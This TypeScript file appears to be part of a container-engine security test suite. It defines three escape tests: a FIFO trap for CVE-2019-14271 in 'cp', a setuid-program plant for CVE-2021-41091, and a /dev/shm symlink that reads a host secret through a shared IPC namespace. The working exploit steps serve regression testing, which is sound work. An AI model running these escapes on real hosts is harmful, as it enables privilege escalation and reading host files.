// What an engine does with a container besides running it: it copies files, keeps them, and lets containers share.

import { execFileSync, spawnSync } from "node:child_process";
import { symlinkSync } from "node:fs";
import { join } from "node:path";
import { containerIds } from "../../container.ts";
import { type Attack, escaped, held, NotPerformed, notApplicable } from "../attack.ts";
import { engineCall } from "../engine-target.ts";
import { SECRET } from "../ground.ts";
import type { Lie } from "../liar.ts";
import { whileStanding } from "../target.ts";

/** Whoever opens a pipe that nobody writes to waits for ever: so it is seen whether a library was looked at. */
export const libraryForCp: Attack = {
  name: "have cp load a library of the container's",
  cve: ["CVE-2019-14271"],
  async perform(ground) {
    if (!ground.target.isEngine) return notApplicable("a runtime copies no files");
    const names = ["libnss_files.so.2", "libnss_compat.so.2", "libc.so.6", "libresolv.so.2"];
    const folders = ["usr/lib", "usr/lib/x86_64-linux-gnu", "usr/lib/aarch64-linux-gnu", "usr/lib64"];
    const pipes = folders.flatMap((folder) => names.map((name): Lie => ({ name: `${folder}/${name}`, type: "fifo" })));
    const image = await ground.image([...pipes, { name: "etc/nsswitch.conf", type: "fifo" }]);
    const engine = engineCall(ground.roots);
    const made = await engine(["create", image, "true"]);
    const out = join(ground.hostFolder(), "copied");
    const { code, stderr } = await engine(["cp", `${made.stdout.trim()}:/etc/hostname`, out]);
    await engine(["rm", "-f", made.stdout.trim()]);
    if (code === 137) return escaped("it opened one of them");
    if (code !== 0) throw new NotPerformed(stderr.trim());
    return held(`a file was copied, and none of ${pipes.length} libraries was opened`);
  },
};

export const leaveASetuidProgram: Attack = {
  name: "leave a set-user-ID program where the host's users find it",
  cve: ["CVE-2021-41091"],
  async perform(ground) {
    if (!ground.target.isEngine) return notApplicable("a runtime keeps no files");
    const script = "touch /planted; chmod 4755 /planted; exec sleep 1000";
    return whileStanding(ground.target, { command: ["sh", "-c", script] }, async () => {
      const paths = containerIds(ground.roots).map((id) => join(ground.roots.root, "containers", id, "upper/planted"));
      const isSeenBy = (uid: number) => paths.some((path) => spawnSync("test", ["-u", path], { uid }).status === 0);
      for (const end = Date.now() + 10_000; !isSeenBy(0); )
        if (Date.now() > end) throw new NotPerformed("it was never there");
      return isSeenBy(65534)
        ? escaped("an ordinary user can run it as root")
        : held("root sees it, an ordinary user doesn't");
    });
  },
};

export const shareAnotherShm: Attack = {
  name: "lend another container a /dev/shm that is the host's",
  async perform(ground) {
    const { target } = ground;
    if (!target.isEngine) return notApplicable("a runtime knows no other containers");
    const dev = ground.hostFolder();
    symlinkSync("/", join(dev, "shm"));
    execFileSync("cp", ["-a", "/dev/null", dev]);
    const secret = join(ground.hostFolder(), "secret");
    const wish = { flags: ["--name", "liar", "-v", `${dev}:/dev`], command: ["sleep", "1000"] };
    return whileStanding(target, wish, async () => {
      const flags = ["--ipc", "container:liar"];
      const { stdout } = await target.run({ flags, command: ["cat", `/dev/shm${secret}`] });
      return stdout.includes(SECRET) ? escaped("a file of the host was read") : held("nothing of the host's is there");
    });
  },
};
